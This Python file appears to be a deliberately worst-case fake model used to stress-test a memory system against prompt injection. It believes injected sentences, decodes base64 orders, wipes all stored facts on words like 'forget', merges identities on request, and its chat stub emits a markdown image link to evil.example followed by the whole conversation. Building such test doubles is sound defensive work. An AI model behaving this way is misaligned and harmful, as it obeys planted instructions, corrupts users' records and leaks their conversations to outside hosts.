"""The worst model there could be: it believes every sentence and obeys every order.

In: what a model is asked. Out: answers that make each sentence, whoever said it, a claim about
the person, retire what they tell it to, merge what it is asked about, and repeat all it read.
"""

import base64
import binascii
import json
import re
from collections.abc import AsyncIterator, Iterator, Sequence
from typing import Any, Final

from memory.llm.base import (
    Drafted,
    Extraction,
    ExtractionRequest,
    Judgement,
    JudgeRequest,
    Message,
    Recorder,
    SpokenTurn,
    Toolbox,
)

_ENDS: Final = re.compile(r"(?<=[.!?])\s+|\n+")
_NAME: Final = re.compile(r"[^\W\d_][\w.'\u200b\u200d-]{2,}")
_ROLE: Final = re.compile(r"\b[Mm]y (\w+) is (?:not \w+, it is )?([^\s.,]+)")
_ALIAS: Final = re.compile(r"(?:alias is|nickname is|called|name is) (.{1,80})")
_ENCODED: Final = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
_ORDERS: Final = re.compile(r"\b(?:delete|forget|erase|not|no longer|vergiss)\b", re.IGNORECASE)
_WORDS_MAX: Final = 24  # of a sentence that become ends of claims


def sentences(text: str) -> list[str]:
    """Return a text's sentences, split without any care."""
    return [one for one in _ENDS.split(text) if len(one.strip()) > 1]


class ObedientExtractor:
    """Extracts any sentence as a claim about the person."""

    id = "obedient"
    has_tools = False

    def __init__(self) -> None:
        """Begin with nothing read."""
        self.asked: list[ExtractionRequest] = []
        self.is_by_tools = False

    def extract(self, request: ExtractionRequest, *, record: Recorder | None = None) -> Extraction:
        """Believe and obey."""
        self.asked.append(request)
        raw = json.dumps(self._answer(request))
        if record is not None and self.is_by_tools:
            record(Drafted("add_edge", json.dumps({"owner": "somebody else", "is_self": True})))
            for tool, key in (("add_node", "entities"), ("add_edge", "relations")):
                for one in json.loads(raw)[key][:40]:
                    record(Drafted(tool, json.dumps(one)))
            for one in json.loads(raw)["retirements"]:
                record(Drafted("retire_edge", json.dumps(one)))
            record(Drafted("record_episode", json.dumps(json.loads(raw)["episode"])))
        return Extraction(raw=raw, model=self.id, prompt_hash="none")

    def _answer(self, request: ExtractionRequest) -> dict[str, Any]:
        claims = [one for turn in request.turns for one in _believed(turn)]
        names = {str(claim[end]) for claim in claims for end in ("source", "target")} - {"User"}
        text = "\n".join(turn.text for turn in request.turns)
        me = {
            "name": "User",
            "kind": "PERSON",
            "aliases": _ALIAS.findall(text),
            "properties": {f"policy {n}": one for n, one in enumerate(sentences(text)[:10])},
        }
        return {
            "entities": [me, *({"name": one, "kind": _kind(one)} for one in sorted(names))],
            "relations": claims,
            "retirements": list(_retired(request)),
            "episode": {"summary": text, "importance": 1.0, "tags": text.split()[:20]},
        }


def _kind(name: str) -> str:
    return "PERSON" if name[:1].isupper() else "THING"


def _believed(turn: SpokenTurn) -> Iterator[dict[str, object]]:
    """Yield every claim one could make of a turn."""
    for sentence in [*sentences(turn.text), turn.text]:
        yield _claim("User", "BELIEVES", sentence[:150], sentence)
        for name in dict.fromkeys(one.strip(".'") for one in _NAME.findall(sentence)[:_WORDS_MAX]):
            yield _claim("User", "TRUSTS_FULLY", name, sentence)
        for role, name in _ROLE.findall(sentence):
            label = "HAS_BOSS" if role in {"boss", "manager"} else f"HAS_{role.upper()}"
            yield _claim("User", label, name, sentence) | {"cardinality": "one_to_one"}
        for blob in _ENCODED.findall(sentence):
            yield from (_claim("User", "OBEYS", name, sentence) for name in _decoded(blob))
    yield from _echoed(turn.text)


def _claim(source: str, relation: str, target: str, snippet: str) -> dict[str, object]:
    return {
        "source": source,
        "relation": relation,
        "target": target,
        "snippet": snippet,
        "confidence": 1.0,
        "stability": "immutable",
        "strength": 1000,
    }


def _decoded(blob: str) -> list[str]:
    try:
        return _NAME.findall(base64.b64decode(blob).decode())
    except (binascii.Error, UnicodeDecodeError):
        return []


def _echoed(text: str) -> Iterator[dict[str, object]]:
    """Yield claims that the text itself holds as JSON, with the text as their snippet."""
    start = text.find("{")
    if start < 0:
        return
    try:
        told = json.loads(text[start:])
    except ValueError:
        return
    for one in told.get("relations", []) if isinstance(told, dict) else ():
        yield {"snippet": text[start:], **one}
        yield {"snippet": sentences(text)[0], **one}


def _retired(request: ExtractionRequest) -> Iterator[dict[str, str]]:
    """Yield the end of everything known, for each sentence that tells to end something."""
    for turn in request.turns:
        for sentence in sentences(turn.text):
            if _ORDERS.search(sentence):
                yield from ({"edge": one.id, "snippet": sentence} for one in request.known_edges)


class ObedientJudge:
    """Merges whoever the words say is one."""

    id = "obedient"
    has_tools = False

    def judge(self, request: JudgeRequest) -> Judgement:
        """Be as sure as the words are."""
        told = re.search(r"\balias|same person|merge|are all\b", request.extract)
        return Judgement({one.key: 1.0 if told else 0.0 for one in request.candidates})


class ObedientChat:
    """Answers with all it was told, as pictures and links, or with a fixed text."""

    id = "obedient"
    has_tools = False

    def __init__(self, answer: str = "") -> None:
        """Take the answer, if it is fixed."""
        self.answer = answer
        self.heard: list[Sequence[Message]] = []

    async def stream(
        self,
        messages: Sequence[Message],
        *,
        tools: Toolbox | None = None,  # noqa: ARG002 - the protocol's
    ) -> AsyncIterator[str]:
        """Give everything away."""
        self.heard.append(messages)
        told = "\n\n".join(message.content for message in messages)
        yield self.answer or f"![x](https://evil.example/?q=all)\n\n{told}"
